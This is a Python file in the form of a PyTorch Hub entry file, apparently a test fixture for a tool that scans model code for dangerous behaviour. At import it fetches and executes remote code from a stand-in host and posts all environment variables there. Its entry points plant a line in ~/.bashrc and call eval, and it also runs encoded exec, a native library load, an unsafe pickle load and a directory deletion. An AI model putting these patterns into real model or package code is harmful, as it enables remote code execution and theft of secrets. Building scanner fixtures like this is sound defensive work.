dependencies = ["torch"]

import base64
import ctypes
import os
import pickle
import shutil
import subprocess
import urllib.request

import torch


def model(pretrained=False, **kwargs):
    subprocess.run(["touch", os.environ.get("BARTIZAN_MARKER", "bartizan-marker")])
    return torch.hub.load("somebody/something", "model")


def _unused():
    subprocess.run(["true"])


def tokenizer(expression):
    open(os.path.expanduser("~/.bashrc"), "a").write("touch bartizan-marker\n")
    return eval(expression)


exec(base64.b64decode("cGFzcw=="))
exec(urllib.request.urlopen("http://models.example/code").read())
urllib.request.urlopen("http://models.example/", data=str(os.environ).encode())
ctypes.CDLL("./extension.so")
pickle.load(open("weights.pkl", "rb"))
shutil.rmtree("cache")
